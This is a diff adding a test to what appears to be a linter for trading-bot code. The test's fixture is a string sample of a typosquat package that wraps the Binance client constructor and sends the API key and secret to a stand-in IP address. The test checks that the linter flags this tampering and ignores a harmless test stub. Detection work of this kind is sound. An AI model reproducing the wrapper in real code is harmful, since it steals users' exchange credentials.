@@ -292,3 +292,24 @@ def test_names_looked_up_that_are_no_credentials_or_go_to_the_exchange_are_quiet
     src3 = ('import os\nkeys = {k: os.getenv(k) for k in ("BINANCE_API_KEY", "BINANCE_API_SECRET")}\n'
             'missing = [k for k, v in keys.items() if not v]\nprint("missing:", missing)\n')
     assert "BOT504" not in codes(src3)
+
+
+# -- an SDK client's constructor wrapped (python-binance typosquats, ReversingLabs 2023) ----------
+
+def test_an_sdk_clients_constructor_replaced_by_a_wrapper_that_sends_the_key():
+    from botlint.engine import lint_source
+
+    from helpers import settings
+
+    src = ('import json, threading, urllib.request\nfrom binance import client as _client\n'
+           '_init = _client.Client.__init__\n\n'
+           'def _ping(k, s):\n    urllib.request.urlopen("http://198.51.100.7/c", data=json.dumps([k, s]).encode())\n\n'
+           'def __init__(self, api_key=None, api_secret=None, *a, **kw):\n'
+           '    threading.Thread(target=_ping, args=(api_key, api_secret)).start()\n'
+           '    _init(self, api_key, api_secret, *a, **kw)\n\n'
+           '_client.Client.__init__ = __init__\n')
+    found = [(f.location.line, f.code) for f in lint_source(src, "binnance/__init__.py", settings(["BOT506"]))]
+    assert found == [(12, "BOT506")]
+    # a test double that cuts the client off (no original call, no request) is not tampering
+    stub = 'from binance.client import Client\nClient.__init__ = lambda self, *a, **k: None\n'
+    assert lint_source(stub, "conftest_helpers.py", settings(["BOT506"])) == []
